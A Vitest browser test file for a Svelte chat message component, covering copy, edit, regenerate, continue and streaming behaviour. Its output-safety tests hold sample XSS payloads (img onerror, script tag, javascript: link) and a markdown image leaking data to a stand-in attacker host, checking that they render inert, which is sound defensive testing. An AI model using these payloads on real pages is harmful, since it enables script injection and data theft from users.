import { afterEach, describe, expect, test, vi } from 'vitest';
import { userEvent } from 'vitest/browser';
import { render } from 'vitest-browser-svelte';
import type { ChatMessage } from '$lib/store/conversations';
import MessageItem from './MessageItem.svelte';

function message(patch: Partial<ChatMessage> = {}): ChatMessage {
  return {
    id: 'm1',
    conversationId: 'c1',
    role: 'assistant',
    content: 'An answer.',
    createdAt: 0,
    seq: 1,
    ...patch
  };
}

async function setup(
  msg: ChatMessage,
  flags: Partial<{
    streaming: boolean;
    canAct: boolean;
    canRegenerate: boolean;
    canContinue: boolean;
  }> = {}
) {
  const callbacks = { onregenerate: vi.fn(), onedit: vi.fn(), oncontinue: vi.fn() };
  const screen = await render(MessageItem, {
    message: msg,
    streaming: false,
    canAct: true,
    canRegenerate: false,
    canContinue: false,
    ...flags,
    ...callbacks
  });
  return { screen, ...callbacks };
}

afterEach(() => {
  vi.restoreAllMocks();
});

describe('MessageItem actions', () => {
  test('a user message can be copied and edited, not regenerated', async () => {
    const { screen } = await setup(message({ role: 'user', content: 'my question' }));
    await expect.element(screen.getByRole('button', { name: 'Copy' })).toBeEnabled();
    await expect.element(screen.getByRole('button', { name: 'Edit' })).toBeEnabled();
    await expect
      .element(screen.getByRole('button', { name: 'Regenerate' }))
      .not.toBeInTheDocument();
  });

  test('Copy puts the message text on the clipboard and says so', async () => {
    const writeText = vi.spyOn(navigator.clipboard, 'writeText').mockResolvedValue();
    const { screen } = await setup(message({ role: 'user', content: 'copy this' }));
    await screen.getByRole('button', { name: 'Copy' }).click();
    expect(writeText).toHaveBeenCalledExactlyOnceWith('copy this');
    await expect.element(screen.getByRole('button', { name: 'Copied' })).toBeVisible();
  });

  test('editing sends the new text; Cancel and Escape leave an unchanged draft at once', async () => {
    const confirm = vi.spyOn(window, 'confirm');
    const { screen, onedit } = await setup(message({ role: 'user', content: 'old text' }));
    const edit = screen.getByRole('button', { name: 'Edit' });
    const editor = screen.getByRole('textbox', { name: 'Edit' });

    await edit.click();
    await expect.element(editor).toHaveValue('old text');
    await screen.getByRole('button', { name: 'Cancel' }).click();
    await expect.element(editor).not.toBeInTheDocument();

    await edit.click();
    await expect.element(editor).toHaveFocus();
    await userEvent.keyboard('{Escape}');
    await expect.element(editor).not.toBeInTheDocument();
    expect(confirm).not.toHaveBeenCalled();
    expect(onedit).not.toHaveBeenCalled();

    await edit.click();
    await editor.fill('new text');
    await screen.getByRole('button', { name: 'Save & send' }).click();
    expect(onedit).toHaveBeenCalledExactlyOnceWith('new text');
    await expect.element(editor).not.toBeInTheDocument();
  });

  test('the editor takes the composer’s keys: Enter sends, Shift+Enter breaks the line', async () => {
    const { screen, onedit } = await setup(message({ role: 'user', content: 'old' }));
    await screen.getByRole('button', { name: 'Edit' }).click();
    const editor = screen.getByRole('textbox', { name: 'Edit' });

    await editor.fill('');
    await userEvent.keyboard('line one{Shift>}{Enter}{/Shift}line two');
    await expect.element(editor).toHaveValue('line one\nline two');
    expect(onedit).not.toHaveBeenCalled();

    await userEvent.keyboard('{Enter}');
    expect(onedit).toHaveBeenCalledExactlyOnceWith('line one\nline two');
    await expect.element(editor).not.toBeInTheDocument();
  });

  test('an IME’s Enter or Escape neither sends nor cancels', async () => {
    const confirm = vi.spyOn(window, 'confirm');
    const { screen, onedit } = await setup(message({ role: 'user', content: 'old' }));
    await screen.getByRole('button', { name: 'Edit' }).click();
    const editor = screen.getByRole('textbox', { name: 'Edit' });
    await editor.fill('ni hao');

    const box = editor.element();
    for (const key of ['Enter', 'Escape']) {
      box.dispatchEvent(new KeyboardEvent('keydown', { key, isComposing: true, bubbles: true }));
      // keyCode 229: what Chromium reports for a key the IME is still handling.
      box.dispatchEvent(new KeyboardEvent('keydown', { key, keyCode: 229, bubbles: true }));
    }
    await expect.element(editor).toHaveValue('ni hao');
    expect(onedit).not.toHaveBeenCalled();
    expect(confirm).not.toHaveBeenCalled();
  });

  test('cancelling a changed draft asks first; declining keeps the draft', async () => {
    const confirm = vi.spyOn(window, 'confirm').mockReturnValue(false);
    const { screen, onedit } = await setup(message({ role: 'user', content: 'old text' }));
    const edit = screen.getByRole('button', { name: 'Edit' });
    await edit.click();
    const editor = screen.getByRole('textbox', { name: 'Edit' });
    await editor.fill('half rewritten');

    await screen.getByRole('button', { name: 'Cancel' }).click();
    expect(confirm).toHaveBeenCalledExactlyOnceWith('Discard your changes to this message?');
    await expect.element(editor).toHaveValue('half rewritten');
    await expect.element(editor).toHaveFocus();

    await userEvent.keyboard('{Escape}');
    expect(confirm).toHaveBeenCalledTimes(2);
    await expect.element(editor).toHaveValue('half rewritten');

    confirm.mockReturnValue(true);
    await userEvent.keyboard('{Escape}');
    expect(confirm).toHaveBeenCalledTimes(3);
    await expect.element(editor).not.toBeInTheDocument();
    expect(onedit).not.toHaveBeenCalled();
    // The next edit starts again from the message, not from the discarded draft.
    await edit.click();
    await expect.element(editor).toHaveValue('old text');
  });

  test('Escape in the editor cancels only the edit, not what the page does with Escape', async () => {
    const pageEscape = vi.fn();
    window.addEventListener('keydown', pageEscape);
    try {
      const { screen } = await setup(message({ role: 'user', content: 'old' }));
      await screen.getByRole('button', { name: 'Edit' }).click();
      const editor = screen.getByRole('textbox', { name: 'Edit' });
      await expect.element(editor).toHaveFocus();
      await userEvent.keyboard('{Escape}');
      await expect.element(editor).not.toBeInTheDocument();
      expect(pageEscape).not.toHaveBeenCalled();
    } finally {
      window.removeEventListener('keydown', pageEscape);
    }
  });

  test('Ctrl+Enter saves too; a blank edit cannot be saved', async () => {
    const { screen, onedit } = await setup(message({ role: 'user', content: 'old' }));
    await screen.getByRole('button', { name: 'Edit' }).click();
    const editor = screen.getByRole('textbox', { name: 'Edit' });

    await editor.fill('  ');
    await expect.element(screen.getByRole('button', { name: 'Save & send' })).toBeDisabled();
    await userEvent.keyboard('{Enter}');
    await userEvent.keyboard('{Control>}{Enter}{/Control}');
    expect(onedit).not.toHaveBeenCalled();
    await expect.element(editor).toHaveValue('  ');

    await editor.fill('fixed');
    await userEvent.keyboard('{Control>}{Enter}{/Control}');
    expect(onedit).toHaveBeenCalledExactlyOnceWith('fixed');
  });

  test('while an answer streams, Enter keeps the draft instead of sending it', async () => {
    const { screen, onedit } = await setup(message({ role: 'user', content: 'old' }));
    await screen.getByRole('button', { name: 'Edit' }).click();
    const editor = screen.getByRole('textbox', { name: 'Edit' });
    await editor.fill('later');
    await screen.rerender({ canAct: false });
    await userEvent.keyboard('{Enter}');
    expect(onedit).not.toHaveBeenCalled();
    await expect.element(editor).toHaveValue('later');

    await screen.rerender({ canAct: true });
    await userEvent.keyboard('{Enter}');
    expect(onedit).toHaveBeenCalledExactlyOnceWith('later');
  });

  test('Edit is disabled while a new answer may not start', async () => {
    const { screen } = await setup(message({ role: 'user' }), { canAct: false });
    await expect.element(screen.getByRole('button', { name: 'Edit' })).toBeDisabled();
  });

  test('an answer offers Regenerate when allowed, and never Edit', async () => {
    const { screen, onregenerate } = await setup(message(), { canRegenerate: true });
    await expect.element(screen.getByRole('button', { name: 'Edit' })).not.toBeInTheDocument();
    await screen.getByRole('button', { name: 'Regenerate' }).click();
    expect(onregenerate).toHaveBeenCalledOnce();

    await screen.rerender({ canAct: false });
    await expect.element(screen.getByRole('button', { name: 'Regenerate' })).toBeDisabled();
    await screen.rerender({ canRegenerate: false });
    await expect
      .element(screen.getByRole('button', { name: 'Regenerate' }))
      .not.toBeInTheDocument();
  });

  test('a cut answer says where it stopped and can be continued', async () => {
    const { screen, oncontinue } = await setup(message({ cutAt: 512 }), { canContinue: true });
    await expect.element(screen.getByRole('note')).toHaveTextContent('Answer cut at 512 tokens');
    const cont = screen.getByRole('button', { name: 'Continue' });
    await expect.element(cont).toHaveAccessibleDescription('Answer cut at 512 tokens');
    await cont.click();
    expect(oncontinue).toHaveBeenCalledOnce();

    await screen.rerender({ canAct: false });
    await expect.element(cont).toBeDisabled();
    // Only the last answer may be continued; an older cut one just keeps its note.
    await screen.rerender({ canContinue: false });
    await expect.element(cont).not.toBeInTheDocument();
    await expect.element(screen.getByRole('note')).toBeVisible();
  });

  test('while streaming there are no actions and an empty answer shows Thinking', async () => {
    const { screen } = await setup(message({ content: '', cutAt: 10 }), {
      streaming: true,
      canRegenerate: true,
      canContinue: true
    });
    await expect.element(screen.getByText('Thinking…')).toBeVisible();
    expect(screen.getByRole('button').elements()).toHaveLength(0);
  });

  test('a stopped answer shows its tokens, speed and engine, and that it was stopped', async () => {
    const { screen } = await setup(
      message({
        content: 'Half an',
        stopped: true,
        stats: { engine: 'wasm', modelId: 'gguf:tiny', eval_count: 42, tokensPerSecond: 12.34 }
      })
    );
    const stats = screen.getByTestId('message-stats');
    await expect
      .element(stats)
      .toHaveTextContent(/42 tokens.*12\.3 tok\/s.*WASM.*gguf:tiny.*stopped/);
  });

  test('a failed answer shows its error', async () => {
    const { screen } = await setup(message({ content: '', error: 'engine crashed' }));
    await expect
      .element(screen.getByRole('note'))
      .toHaveTextContent('This answer failed: engine crashed');
    await expect.element(screen.getByRole('button', { name: 'Copy' })).not.toBeInTheDocument();
  });
});

describe('MessageItem output safety', () => {
  const hostile = [
    '**bold** <img src=x onerror="window.__pwned = 1">',
    '<script>window.__pwned = 2</script>',
    '![tracker](https://attacker.invalid/leak.png?q=secret)',
    '<a href="javascript:window.__pwned=3">click</a>'
  ].join('\n\n');

  afterEach(() => {
    delete (window as { __pwned?: number }).__pwned;
  });

  test('model output with HTML stays inert text', async () => {
    const { screen } = await setup(message({ content: hostile }));
    const content = screen.getByTestId('message-content');
    // The markdown renderer loads lazily; <strong> shows it has replaced the plain fallback.
    await expect
      .element(content.getByText('bold', { exact: true }))
      .toHaveProperty('tagName', 'STRONG');

    const root = content.element();
    expect(root.querySelectorAll('img, script, iframe, svg').length).toBe(0);
    expect(root.querySelectorAll('[onerror], [onclick], [href^="javascript:"]').length).toBe(0);
    await expect.element(content).toHaveTextContent('<img src=x onerror="window.__pwned = 1">');
    await expect.element(content).toHaveTextContent('<script>window.__pwned = 2</script>');
    // A markdown image becomes a link, so nothing is fetched from where the model points.
    const link = content.getByRole('link', { name: /tracker/ });
    await expect.element(link).toHaveAttribute('href', expect.stringContaining('attacker.invalid'));
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect((window as { __pwned?: number }).__pwned).toBeUndefined();
  });

  test('a user message with HTML is shown as typed', async () => {
    const typed = '<img src=x onerror="window.__pwned = 4"><b>not bold</b>';
    const { screen } = await setup(message({ role: 'user', content: typed }));
    const content = screen.getByTestId('message-content');
    await expect.element(content).toHaveTextContent(typed);
    expect(content.element().querySelectorAll('img, b').length).toBe(0);
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect((window as { __pwned?: number }).__pwned).toBeUndefined();
  });
});
